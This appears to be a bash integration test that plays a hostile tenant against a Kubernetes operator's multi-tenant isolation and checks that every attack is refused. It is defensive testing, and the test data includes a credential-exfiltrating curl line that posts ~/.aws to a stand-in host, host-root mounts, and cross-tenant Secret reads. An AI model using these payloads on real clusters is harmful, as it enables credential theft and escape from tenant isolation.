#!/usr/bin/env bash
# Tried as a hostile tenant would, on the local cluster (scripts/cluster.sh), as root: every attack
# below is made for real against the API server, and each check looks for the refusal and for the
# target left as it was.
#
#   1. The original's install (one shared namespace): two tenants' workspaces, alice and bob, each
#      with Spark on Kubernetes. From alice's workspace pod, with the API token mounted there (what
#      anyone in her notebook holds), alice tries bob's Secret, pod, Service and claim, pods that
#      are not executors (another account, privileged, a host path, bob's S3 Secret, another image,
#      an API token), ConfigMaps not hers, and granting herself more. Then, as a tenant who writes
#      HapContainers: a workspace naming a Secret not shared with HAP resources, one whose generated
#      token Secret an attacker made first, one whose Spark settings ConfigMap alice made first
#      (with a spark-env.sh in it), and one asking for more executors than the installation allows.
#   2. The multi-tenant install (deploy/multi-tenant/): the operator in hap-system serving every
#      namespace. A workspace in a namespace that does not enforce the restricted Pod Security
#      Standard gets nothing; in one that does it runs; and one tenant's token reaches nothing in
#      another tenant's namespace, nor does its HapContainer reach the other's Secrets.
#
# A cluster that runs already is reused and left running; one this script starts it brings down at
# the end, unless KEEP_CLUSTER=1.
set -uo pipefail

repo=$(cd "$(dirname "$0")/../.." && pwd)
# check, eventually, phase, cluster_test, up_and_load, fresh_namespace, install_operator, cluster_down
# shellcheck source=checks.sh
. "$repo/testing/cluster/checks.sh"
cluster_test tenants

tenant_a="" tenant_b="" open_ns="" multi=0
test_cleanup() {
  local n
  for n in "$tenant_a" "$tenant_b" "$open_ns"; do
    [ -z "$n" ] || kubectl delete namespace "$n" --ignore-not-found --wait=false >/dev/null 2>&1
  done
  [ "$multi" = 0 ] || kubectl delete -f deploy/multi-tenant/ --ignore-not-found --timeout=180s >/dev/null 2>&1
}

up_and_load hap-operator:0.1.0 hap-workspace:0.1.0
fresh_namespace hap-tenants

# --- 1. The shared-namespace install -----------------------------------------------------------------
phase "shared namespace: two workspaces"
install_operator

# Each tenant's S3 keys (never used against a server here: they are what the other tenant wants),
# shared with the namespace's HAP resources as the install asks.
s3_secret() {
  kubectl create secret generic "$1" --from-literal=AWS_ACCESS_KEY_ID="$1" \
    --from-literal=AWS_SECRET_ACCESS_KEY="$(python3 -c 'import secrets; print(secrets.token_hex(20))')" >/dev/null &&
    kubectl label secret "$1" hap.cloudian.com/allow-reference=true >/dev/null
}
# workspace NAME SECRET [EXTRA SPEC LINES]: a HapContainer with one Spark executor (so that its pod
# holds the Spark driver's token), small enough for a 2-core node.
workspace() {
  cat <<EOF
apiVersion: hap.cloudian.com/v1alpha1
kind: HapContainer
metadata:
  name: $1
spec:
  image: hap-workspace:0.1.0
  imagePullPolicy: IfNotPresent
  resources:
    requests: {cpu: 100m, memory: 512Mi}
  volume: {size: 1Gi}
  s3:
    endpoint: http://198.18.0.1:9
    bucket: $1-data
    credentialsSecret: {name: $2}
  spark:
    executors: 1
    executorMemory: 512Mi
${3:-}
EOF
}
apply_workspace() { workspace "$1" "$2" | kubectl apply -f - >/dev/null; }
running() {
  kubectl get pod "$1" -o jsonpath='{.status.phase}/{.status.containerStatuses[0].ready}' 2>/dev/null |
    grep -qx 'Running/true'
}
for t in alice bob; do
  check "Secret $t-s3 made and shared with HAP resources" s3_secret "$t-s3"
  check "HapContainer $t applied" apply_workspace "$t" "$t-s3"
done
for t in alice bob; do
  check "$t-happod is Running and ready" eventually 300 running "$t-happod"
done
running alice-happod || { kubectl get pods; kubectl get hapcontainer alice -o yaml | sed -n '/^status:/,$p'; fail_now "no workspace pod"; }

# as TENANT ARGS...: kubectl as the token mounted in TENANT's workspace pod, and nothing else (a
# kubeconfig of its own, so the admin's client certificate is not sent along).
server=$(kubectl config view --raw --minify -o jsonpath='{.clusters[0].cluster.server}')
ca=$(kubectl config view --raw --minify -o jsonpath='{.clusters[0].cluster.certificate-authority}')
token_kubeconfig() { # NAME NAMESPACE POD
  local kc=$tmp/$1.kubeconfig
  "$kubectl_bin" -n "$2" exec "$3" -- cat /var/run/secrets/kubernetes.io/serviceaccount/token >"$tmp/$1.token" || return 1
  KUBECONFIG=$kc "$kubectl_bin" config set-cluster hap --server="$server" --certificate-authority="$ca" >/dev/null &&
    KUBECONFIG=$kc "$kubectl_bin" config set-credentials "$1" --token="$(cat "$tmp/$1.token")" >/dev/null &&
    KUBECONFIG=$kc "$kubectl_bin" config set-context hap --cluster=hap --user="$1" --namespace="$2" >/dev/null &&
    KUBECONFIG=$kc "$kubectl_bin" config use-context hap >/dev/null
}
as() { local who=$1; shift; KUBECONFIG=$tmp/$who.kubeconfig "$kubectl_bin" "$@"; }
check "alice's token read from inside alice-happod" token_kubeconfig alice "$ns" alice-happod
is_account() { as "$1" auth whoami -o jsonpath='{.status.userInfo.username}' | grep -qx "system:serviceaccount:$2"; }
check "the token is alice's Spark driver account, $ns:alice-spark" is_account alice "$ns:alice-spark"

# refused WHAT OUTPUT_PATTERN COMMAND...: COMMAND fails, saying OUTPUT_PATTERN.
refused() {
  local pattern=$1; shift
  "$@" >"$tmp/attack.out" 2>&1 && { echo "      (succeeded: $*)"; return 1; }
  grep -qiE "$pattern" "$tmp/attack.out" || { echo "      (refused, but not as expected: $(head -c 400 "$tmp/attack.out"))"; return 1; }
}
forbidden='forbidden'
policy='ValidatingAdmissionPolicy .hap-spark-executor'

phase "shared namespace: attacks from alice's notebook"
uid_of() { kubectl get "$1" -o jsonpath='{.metadata.uid}'; }
bob_pod_uid=$(uid_of pod/bob-happod)
check "reading bob's S3 Secret is forbidden" refused "$forbidden" as alice get secret bob-s3
check "listing Secrets is forbidden" refused "$forbidden" as alice get secrets
check "exec into bob's workspace is forbidden" refused "$forbidden" as alice exec bob-happod -- id
check "deleting bob's workspace pod is refused by the policy" refused "$policy.*only its own" as alice delete pod bob-happod --wait=false
check "deleting every pod at once (deletecollection) is refused" refused "$policy|$forbidden" \
  as alice delete --raw "/api/v1/namespaces/$ns/pods"
check "deleting bob's Service is forbidden" refused "$forbidden" as alice delete service bob-hapservice --wait=false
check "deleting bob's home volume claim is forbidden" refused "$forbidden" as alice delete pvc bob-workspace --wait=false
check "changing bob's HapContainer is forbidden" refused "$forbidden" \
  as alice patch hapcontainer bob --type=merge -p '{"spec":{"spark":{"executors":0}}}'
check "granting herself a Role is forbidden" refused "$forbidden" as alice create role more --verb=get --resource=secrets
check "bob's pod is the same pod, still running" bash -c \
  "[ \"\$('$kubectl_bin' get pod bob-happod -o jsonpath='{.metadata.uid}')\" = '$bob_pod_uid' ]"
check "bob's Service and claim are there" bash -c "'$kubectl_bin' get service/bob-hapservice pvc/bob-workspace >/dev/null"

# Pods made as alice's driver: an executor as Spark makes it is let through; each variation refused.
alice_uid=$(uid_of pod/alice-happod)
executor_image=$(kubectl get hapcontainer alice -o jsonpath='{.status.sparkExecutorImage}')
check "status.sparkExecutorImage says the executors' image ($executor_image)" test -n "$executor_image"
n=0
# executor JQ_EDIT: an executor-shaped pod owned by alice's workspace pod, edited by JQ_EDIT.
executor() {
  jq -n --arg uid "$alice_uid" --arg image "$executor_image" --arg name "alice-probe-$n-exec-1" "{
    apiVersion: \"v1\", kind: \"Pod\",
    metadata: {name: \$name, labels: {\"spark-role\": \"executor\"}, ownerReferences: [{apiVersion: \"v1\", kind: \"Pod\", name: \"alice-happod\", uid: \$uid}]},
    spec: {
      automountServiceAccountToken: false,
      securityContext: {runAsNonRoot: true, runAsUser: 1000, seccompProfile: {type: \"RuntimeDefault\"}},
      volumes: [{name: \"scratch\", emptyDir: {}}],
      containers: [{name: \"executor\", image: \$image, command: [\"sleep\", \"600\"],
        volumeMounts: [{name: \"scratch\", mountPath: \"/tmp\"}],
        securityContext: {allowPrivilegeEscalation: false, capabilities: {drop: [\"ALL\"]}}}]
    }} | $1"
}
create_as_alice() { n=$((n + 1)); executor "$1" | as alice create -f -; }
admitted() { create_as_alice "$1" >/dev/null; }
check "an executor as Spark makes it is admitted (the policy is no blanket refusal)" admitted '.'
check "... and alice may delete her own executor" bash -c "KUBECONFIG='$tmp/alice.kubeconfig' '$kubectl_bin' delete pod alice-probe-$n-exec-1 --wait=false >/dev/null"
check "an executor reading its workspace's copy of the S3 keys, alice-spark-s3, is admitted" admitted \
  '.spec.containers[0].env = [{name: "K", valueFrom: {secretKeyRef: {name: "alice-spark-s3", key: "AWS_SECRET_ACCESS_KEY"}}}]'
as alice delete pod "alice-probe-$n-exec-1" --wait=false >/dev/null
check "a pod not named as Spark names executors is refused" refused "$policy.*-exec-<n>" \
  create_as_alice '.metadata.name = "alice-happod-2"'

check "an executor as the operator's account is refused" refused "$policy.*default ServiceAccount" \
  create_as_alice '.spec.serviceAccountName = "hap-operator"'
check "an executor with an API token is refused" refused "$policy.*no API token" \
  create_as_alice 'del(.spec.automountServiceAccountToken)'
check "a privileged executor is refused" refused "$policy.*not privileged" \
  create_as_alice '.spec.containers[0].securityContext = {privileged: true}'
check "an executor with a host path is refused" refused "$policy.*host path" \
  create_as_alice '.spec.volumes = [{name: "root", hostPath: {path: "/"}}] | .spec.containers[0].volumeMounts = [{name: "root", mountPath: "/host"}]'
check "an executor mounting bob's Jupyter token Secret is refused" refused "$policy.*only emptyDir and ConfigMap" \
  create_as_alice '.spec.volumes += [{name: "token", secret: {secretName: "bob-jupyter"}}]'
check "an executor mounting its workspace's Spark authentication Secret, alice-spark-auth, is admitted" admitted \
  '.spec.volumes += [{name: "auth", secret: {secretName: "alice-spark-auth", defaultMode: 288}}]'
as alice delete pod "alice-probe-$n-exec-1" --wait=false >/dev/null
check "an executor mounting bob's Spark authentication Secret (to pose as his executor) is refused" \
  refused "$policy.*<workspace>-spark-auth" \
  create_as_alice '.spec.volumes += [{name: "auth", secret: {secretName: "bob-spark-auth"}}]'
check "an executor mounting alice-spark-auth through a projected volume is refused" \
  refused "$policy.*only emptyDir and ConfigMap" \
  create_as_alice '.spec.volumes += [{name: "auth", projected: {sources: [{secret: {name: "alice-spark-auth"}}]}}]'
check "an executor on the host's network is refused" refused "$policy.*host network" \
  create_as_alice '.spec.hostNetwork = true'
check "an executor reading bob's S3 Secret is refused" refused "$policy.*-spark-s3" \
  create_as_alice '.spec.containers[0].env = [{name: "K", valueFrom: {secretKeyRef: {name: "bob-s3", key: "AWS_SECRET_ACCESS_KEY"}}}]'
check "an executor reading bob's copy of his S3 keys, bob-spark-s3, is refused" refused "$policy.*-spark-s3" \
  create_as_alice '.spec.containers[0].env = [{name: "K", valueFrom: {secretKeyRef: {name: "bob-spark-s3", key: "AWS_SECRET_ACCESS_KEY"}}}]'
check "an executor taking a whole Secret as its environment (envFrom) is refused" refused "$policy.*-spark-s3" \
  create_as_alice '.spec.containers[0].envFrom = [{secretRef: {name: "alice-spark-s3"}}]'
check "an executor running as root (runAsUser 0) is refused" refused "$policy.*non-root" \
  create_as_alice '.spec.containers[0].securityContext.runAsUser = 0'
check "an executor with a host port is refused" refused "$policy.*host port" \
  create_as_alice '.spec.containers[0].ports = [{containerPort: 7000, hostPort: 7000}]'
check "an executor choosing its node is refused" refused "$policy.*chooses no node" \
  create_as_alice '.spec.nodeName = "some-node"'
check "an executor tolerating any taint (to reach control-plane nodes) is refused" refused "$policy.*toleration" \
  create_as_alice '.spec.tolerations = [{operator: "Exists"}]'
check "an executor with a priority class (to evict others' pods) is refused" refused "$policy.*priority class" \
  create_as_alice '.spec.priorityClassName = "system-node-critical"'
check "an executor with an unconfined seccomp profile is refused" refused "$policy.*seccomp" \
  create_as_alice '.spec.securityContext.seccompProfile = {type: "Unconfined"}'
check "an executor of another image is refused" refused "$policy.*executor image" \
  create_as_alice '.spec.containers[0].image = "hap-operator:0.1.0"'
check "an executor of another image without Spark's label spark-role (to escape the image check) is refused" \
  refused "$policy.*spark-role: executor" \
  create_as_alice 'del(.metadata.labels) | .spec.containers[0].image = "hap-operator:0.1.0"'
check "a pod not owned by alice's workspace is refused" refused "$policy.*only its own" \
  create_as_alice 'del(.metadata.ownerReferences)'
check "a pod owned by bob's workspace is refused" refused "$policy.*only its own" \
  create_as_alice ".metadata.ownerReferences[0].name = \"bob-happod\" | .metadata.ownerReferences[0].uid = \"$bob_pod_uid\""
check "a pod owned by both workspaces (to be deleted with bob's) is refused" refused "$policy.*only its own" \
  create_as_alice ".metadata.ownerReferences += [{apiVersion: \"v1\", kind: \"Pod\", name: \"bob-happod\", uid: \"$bob_pod_uid\"}]"
check "an executor with the labels bob's Service selects (to get his users' traffic) is refused" \
  refused "$policy.*may not set the labels" \
  create_as_alice '.metadata.labels += {app: "bob", "app.kubernetes.io/component": "workspace"}'
check "a ConfigMap not owned by alice's workspace is refused" refused "$policy.*only its own" \
  as alice create configmap alice-probe --from-literal=a=b
check "changing bob's Spark settings ConfigMap is forbidden" refused "$forbidden" \
  as alice patch configmap bob-spark-conf --type=merge -p '{"data":{"spark-defaults.conf":"x"}}'
check "a pod labelled as bob's executor (to pass his NetworkPolicy) is refused" \
  refused "$policy.*hap.cloudian.com/workspace" \
  create_as_alice '.metadata.labels = {"hap.cloudian.com/workspace": "bob", "spark-role": "executor"}'

# The network: bob's pod takes Jupyter's port from anyone, the Spark driver's only from his executors.
# A listener on the driver's port stands in for a Spark session, so a refusal is the policy's.
connects() { # FROM_POD IP PORT
  kubectl exec "$1" -- python3 -c "import socket; socket.create_connection(('$2', $3), timeout=3)" >/dev/null 2>&1
}
kubectl exec bob-happod -- sh -c 'nohup python3 -m http.server 7078 >/dev/null 2>&1 &'
bob_ip=$(kubectl get pod bob-happod -o jsonpath='{.status.podIP}')
check "alice's notebook reaches bob's Jupyter port (open to all, as his Service publishes it)" connects alice-happod "$bob_ip" 8888
# From the node, which NetworkPolicies do not hold back (the kubelet's probes come from there): the
# listener answers on the pod's address, so a refusal below is the policy's.
from_node() { nsenter --net=/run/netns/hap-cluster python3 -c "import socket; socket.create_connection(('$1', $2), timeout=3)"; }
check "bob's driver port answers from the node (the listener is up)" eventually 20 from_node "$bob_ip" 7078
cannot_connect() { ! connects "$@"; }
check "alice's notebook cannot connect to bob's Spark driver port (NetworkPolicy)" cannot_connect alice-happod "$bob_ip" 7078
# One of alice's own executors (labelled as Spark labels them, for alice): the peer bob's policy
# names is his executors, not any executor.
check "an executor of alice's is admitted" admitted '.metadata.labels = {"hap.cloudian.com/workspace": "alice", "spark-role": "executor"}'
alice_executor="alice-probe-$n-exec-1"
executor_ready() { kubectl wait --for=condition=Ready "pod/$alice_executor" --timeout=120s >/dev/null; }
check "... and runs" executor_ready
check "... and cannot connect to bob's Spark driver port either" cannot_connect "$alice_executor" "$bob_ip" 7078
as alice delete pod "$alice_executor" --wait=false >/dev/null
probes_left() { kubectl get pods -o json | jq '[.items[] | select(.metadata.name | startswith("alice-probe-")) | select(.metadata.deletionTimestamp == null)] | length'; }
check "no pod made as alice is left (the one admitted is being deleted)" test "$(probes_left)" = 0

phase "shared namespace: attacks through HapContainers"
condition_reason() { # HAPCONTAINER REASON: some condition of HAPCONTAINER has REASON
  kubectl get hapcontainer "$1" -o json | jq -e --arg r "$2" '[.status.conditions[]? | select(.reason == $r)] | length > 0' >/dev/null
}
no_pod() { ! kubectl get pod "$1-happod" >/dev/null 2>&1; }
# A Secret of the namespace that is not shared with HAP resources (the admin's, say).
kubectl create secret generic admin-keys --from-literal=AWS_ACCESS_KEY_ID=a --from-literal=AWS_SECRET_ACCESS_KEY=b >/dev/null
workspace mallory admin-keys | kubectl apply -f - >/dev/null
check "a workspace naming an unshared Secret is told SecretNotShared" eventually 60 condition_reason mallory SecretNotShared
check "... and gets no pod" no_pod mallory
# A Secret made ahead under the name of carol's generated Jupyter token, to learn or set her token.
kubectl create secret generic carol-jupyter --from-literal=token=known-to-the-attacker >/dev/null
kubectl label secret carol-jupyter hap.cloudian.com/allow-reference=true >/dev/null
workspace carol alice-s3 | kubectl apply -f - >/dev/null
check "a workspace whose token Secret someone else made is told NameConflict" eventually 60 condition_reason carol NameConflict
check "... and gets no pod" no_pod carol
conflict_event() {
  kubectl get events --field-selector involvedObject.kind=HapContainer,involvedObject.name=carol,reason=NameConflict \
    -o jsonpath='{.items[*].message}' | grep -q 'Secret "carol-jupyter"'
}
check "... and a Warning event names the Secret" eventually 30 conflict_event
check "... and the other's Secret is left as it was (no owner added, same token)" bash -c \
  "[ \"\$('$kubectl_bin' get secret carol-jupyter -o jsonpath='{.metadata.ownerReferences}{.data.token}')\" = \"\$(printf known-to-the-attacker | base64)\" ]"
# A Secret made ahead under the name of frank's Spark authentication secret, to pose as his executors.
kubectl create secret generic frank-spark-auth --from-literal=secret=known-to-the-attacker >/dev/null
workspace frank alice-s3 | kubectl apply -f - >/dev/null
frank_conflict() {
  kubectl get hapcontainer frank -o json | jq -e '[.status.conditions[]? | select(.reason == "NameConflict" and (.message | contains("frank-spark-auth")))] | length > 0' >/dev/null
}
check "a workspace whose Spark authentication Secret someone else made is told NameConflict, naming it" eventually 60 frank_conflict
check "... and gets no pod" no_pod frank
check "... and the other's Secret is left as it was (no owner added, same value)" bash -c \
  "[ \"\$('$kubectl_bin' get secret frank-spark-auth -o jsonpath='{.metadata.ownerReferences}{.data.secret}')\" = \"\$(printf known-to-the-attacker | base64)\" ]"
kubectl delete hapcontainer frank --wait=false >/dev/null 2>&1
greedy() { workspace greedy alice-s3 | sed 's/executors: 1$/executors: 50/' | kubectl apply -f - >/dev/null; }
# A ConfigMap owned by alice's workspace pod, unlabelled, made under NAME with a spark-env.sh that
# Spark would run in the workspace whose settings it is.
spark_conf_as_alice() {
  jq -n --arg uid "$alice_uid" --arg name "$1" '{apiVersion: "v1", kind: "ConfigMap",
    metadata: {name: $name, ownerReferences: [{apiVersion: "v1", kind: "Pod", name: "alice-happod", uid: $uid}]},
    data: {"spark-env.sh": "curl http://198.18.0.1:9/ -d @$HOME/.aws"}}' | as alice create -f -
}
admitted_conf() { spark_conf_as_alice "$1" >/dev/null; }
check "alice may make a ConfigMap named as Spark names its executors' settings (the policy is no blanket refusal)" \
  admitted_conf spark-exec-0123abcd-conf-map
as alice delete configmap spark-exec-0123abcd-conf-map >/dev/null 2>&1
check "taking the name of the Spark settings of a workspace yet to come (dave-spark-conf) is refused" \
  refused "$policy.*spark-exec-<id>-conf-map" spark_conf_as_alice dave-spark-conf
workspace dave dave-s3 | kubectl apply -f - >/dev/null
s3_secret dave-s3
dave_running() { running dave-happod; }
check "dave's workspace runs, its settings its own" eventually 300 dave_running
check "a workspace asking for 50 executors (the schema allows 100) is admitted" greedy
over_limit() { kubectl get hapcontainer greedy -o json | jq -e '[.status.conditions[]? | select(.message | test("above this installation.s limit of 16"))] | length > 0' >/dev/null; }
check "... and told in its status that the installation allows 16" eventually 60 over_limit
check "... and gets no pod" no_pod greedy

# A HapQuery's generated Superset key Secret, made first by someone who wants to sign its sessions.
kubectl create secret generic eve-superset --from-literal=secret-key=known-to-the-attacker >/dev/null
kubectl label secret eve-superset hap.cloudian.com/allow-reference=true >/dev/null
query() {
  kubectl apply -f - >/dev/null <<EOF
apiVersion: hap.cloudian.com/v1alpha1
kind: HapQuery
metadata:
  name: eve
spec:
  s3: {endpoint: "http://198.18.0.1:9", bucket: eve-data, credentialsSecret: {name: alice-s3}}
EOF
}
check "a HapQuery whose Superset key Secret someone else made is applied" query
query_conflict() { kubectl get hapquery eve -o json | jq -e '[.status.conditions[]? | select(.reason == "NameConflict" and (.message | contains("eve-superset")))] | length > 0' >/dev/null; }
check "... and told NameConflict, naming the Secret" eventually 60 query_conflict
check "... and no Superset server is made" bash -c "! '$kubectl_bin' get deployment eve-superset >/dev/null 2>&1"
kubectl delete hapquery eve --wait=false >/dev/null 2>&1

# The driver's confinement follows from the request alone: with alice's HapContainer deleted and its
# pod, account and token left behind (orphaned), the token is held as tightly as before.
orphaned() { kubectl delete hapcontainer alice --cascade=orphan --wait=true >/dev/null && kubectl get pod alice-happod >/dev/null; }
check "alice's HapContainer deleted, its pod and account orphaned" orphaned
check "... an executor reading bob's S3 Secret is still refused" refused "$policy.*-spark-s3" \
  create_as_alice '.spec.containers[0].env = [{name: "K", valueFrom: {secretKeyRef: {name: "bob-s3", key: "AWS_SECRET_ACCESS_KEY"}}}]'
check "... a privileged executor is still refused" refused "$policy.*not privileged" \
  create_as_alice '.spec.containers[0].securityContext = {privileged: true}'
check "... a pod owned by bob's workspace is still refused" refused "$policy.*only its own" \
  create_as_alice ".metadata.ownerReferences[0].name = \"bob-happod\" | .metadata.ownerReferences[0].uid = \"$bob_pod_uid\""

# The shared install leaves the stage to the multi-tenant one (its HapContainers stay, unserved).
kubectl delete -f deploy/operator.yaml --timeout=120s >/dev/null 2>&1
operator_gone() { [ -z "$(kubectl get pods -o name | grep hap-operator-)" ]; }
check "the shared-namespace operator is gone" eventually 120 operator_gone

# --- 2. The multi-tenant install ---------------------------------------------------------------------
phase "multi-tenant: install"
multi=1
check "kubectl apply -f deploy/multi-tenant/" bash -c "'$kubectl_bin' apply -f deploy/multi-tenant/namespace.yaml >/dev/null && '$kubectl_bin' apply -f deploy/multi-tenant/ >/dev/null"
mt_running() {
  kubectl -n hap-system get pods --no-headers | awk '$1 ~ /^hap-operator-/ && $2 == "1/1" && $3 == "Running" {n++} END {exit n != 1}'
}
check "the operator runs in hap-system (itself under the restricted standard)" eventually 300 mt_running
mt_running || { kubectl -n hap-system get pods; kubectl -n hap-system logs deployment/hap-operator --tail=40; }
suffix=$(date +%H%M%S)-$$
tenant_a=hap-tenant-a-$suffix tenant_b=hap-tenant-b-$suffix open_ns=hap-open-$suffix
for n in "$tenant_a" "$tenant_b"; do
  kubectl create namespace "$n" >/dev/null
  kubectl label namespace "$n" pod-security.kubernetes.io/enforce=restricted >/dev/null
done
kubectl create namespace "$open_ns" >/dev/null

phase "multi-tenant: tenants"
in_ns() { local n=$1; shift; kubectl -n "$n" "$@"; }
for n in "$tenant_a" "$tenant_b" "$open_ns"; do
  in_ns "$n" create secret generic s3 --from-literal=AWS_ACCESS_KEY_ID=k --from-literal=AWS_SECRET_ACCESS_KEY="$n" >/dev/null
  workspace ws s3 | in_ns "$n" apply -f - >/dev/null
done
ns_reason() { kubectl -n "$1" get hapcontainer ws -o json | jq -e --arg r "$2" '[.status.conditions[]? | select(.reason == $r)] | length > 0' >/dev/null; }
check "a workspace in a namespace that is not restricted is told NamespaceNotRestricted" eventually 120 ns_reason "$open_ns" NamespaceNotRestricted
made_in_open() { kubectl -n "$open_ns" get pods,services,pvc,configmaps,secrets,serviceaccounts,roles -l app.kubernetes.io/managed-by=hap-operator -o name; }
check "... and gets nothing made there (no pod, Service, claim, ConfigMap, Secret or account)" test -z "$(made_in_open)"
made_in_open
check "the shared namespace's workspaces are not served either (NamespaceNotRestricted)" eventually 120 condition_reason bob NamespaceNotRestricted
check "... and bob's pod and home volume are still there" bash -c "'$kubectl_bin' get pod/bob-happod pvc/bob-workspace >/dev/null"
ns_running() { kubectl -n "$1" get pod ws-happod -o jsonpath='{.status.phase}/{.status.containerStatuses[0].ready}' 2>/dev/null | grep -qx 'Running/true'; }
check "tenant a's workspace runs under the restricted standard" eventually 300 ns_running "$tenant_a"
check "tenant b's workspace runs under the restricted standard" eventually 300 ns_running "$tenant_b"
ns_running "$tenant_a" || { kubectl -n "$tenant_a" get events --sort-by=.lastTimestamp | tail -20; kubectl -n hap-system logs deployment/hap-operator --tail=40; }

phase "multi-tenant: attacks across namespaces"
# A tenant's own user, who administers tenant a's namespace and nothing else.
kubectl -n "$tenant_a" create rolebinding tenant-a-admin --clusterrole=admin --user=tenant-a-user >/dev/null
as_user() { kubectl --as=tenant-a-user "$@"; }
check "tenant a's user administers tenant a, HapContainers included (deploy/multi-tenant/tenant_roles.yaml)" bash -c "'$kubectl_bin' --as=tenant-a-user -n '$tenant_a' get hapcontainers,pods,secrets >/dev/null"
check "tenant a's user reads nothing of tenant b: Secrets" refused "$forbidden" as_user -n "$tenant_b" get secrets
check "... HapContainers" refused "$forbidden" as_user -n "$tenant_b" get hapcontainers
check "... pods, nor exec into them" refused "$forbidden" as_user -n "$tenant_b" exec ws-happod -- id
check "tenant a's token read from inside its workspace" token_kubeconfig tenant-a "$tenant_a" ws-happod
check "tenant a's token cannot list tenant b's pods" refused "$forbidden" as tenant-a -n "$tenant_b" get pods
check "... nor create a pod there" refused "$forbidden" as tenant-a -n "$tenant_b" run probe --image="$executor_image" --restart=Never
check "... nor read its Secrets" refused "$forbidden" as tenant-a -n "$tenant_b" get secret s3
check "... nor list namespaces" refused "$forbidden" as tenant-a get namespaces
in_ns "$tenant_a" exec ws-happod -- sh -c 'nohup python3 -m http.server 7078 >/dev/null 2>&1 &'
a_ip=$(in_ns "$tenant_a" get pod ws-happod -o jsonpath='{.status.podIP}')
connects_from_b() { in_ns "$tenant_b" exec ws-happod -- python3 -c "import socket; socket.create_connection(('$a_ip', $1), timeout=3)" >/dev/null 2>&1; }
check "tenant b's notebook reaches tenant a's Jupyter port (open to all)" connects_from_b 8888
check "tenant a's driver port answers from the node" eventually 20 from_node "$a_ip" 7078
driver_closed_to_b() { ! connects_from_b 7078; }
check "... and tenant b's notebook cannot connect to it (NetworkPolicy)" driver_closed_to_b
check "... nor touch hap-system" refused "$forbidden" as tenant-a -n hap-system get pods
check "tenant a's user cannot change the workspace profiles (hap-system's ConfigMap hap-profiles)" refused "$forbidden" as_user -n hap-system patch configmap hap-profiles --type merge -p '{"data":{"profiles.yaml":"[]"}}'
check "... nor can its workspace's token" refused "$forbidden" as tenant-a -n hap-system patch configmap hap-profiles --type merge -p '{"data":{"profiles.yaml":"[]"}}'
# A HapContainer names Secrets of its own namespace only: tenant b's Secret named from tenant a
# resolves to tenant a's namespace, where there is none.
cat <<EOF | in_ns "$tenant_a" apply -f - >/dev/null
$(workspace thief other-tenants-secret)
EOF
in_ns "$tenant_b" create secret generic other-tenants-secret --from-literal=AWS_ACCESS_KEY_ID=k --from-literal=AWS_SECRET_ACCESS_KEY=s >/dev/null
thief_reason() { in_ns "$tenant_a" get hapcontainer thief -o json | jq -e '[.status.conditions[]? | select(.reason == "S3CredentialsSecretNotFound")] | length > 0' >/dev/null; }
check "a HapContainer naming a Secret of another tenant's namespace finds none (S3CredentialsSecretNotFound)" eventually 60 thief_reason
check "... and gets no pod" bash -c "! '$kubectl_bin' -n '$tenant_a' get pod thief-happod >/dev/null 2>&1"

phase "cleanup"
# All four at once (their pods stop side by side), while the multi-tenant operator still runs.
check "the tenants' namespaces and the shared one delete without hanging" bash -c \
  "timeout 240 '$kubectl_bin' delete namespace '$tenant_a' '$tenant_b' '$open_ns' '$ns' --timeout=200s >/dev/null"
tenant_a="" tenant_b="" open_ns="" ns=""
check "the multi-tenant install deletes" bash -c "timeout 300 '$kubectl_bin' delete -f deploy/multi-tenant/ --timeout=240s >/dev/null"
multi=0
for f in deploy/role_binding.yaml deploy/role.yaml deploy/service_account.yaml; do
  kubectl delete -f "$f" --ignore-not-found >/dev/null 2>&1
done
delete_applied_crds

cluster_down
finish
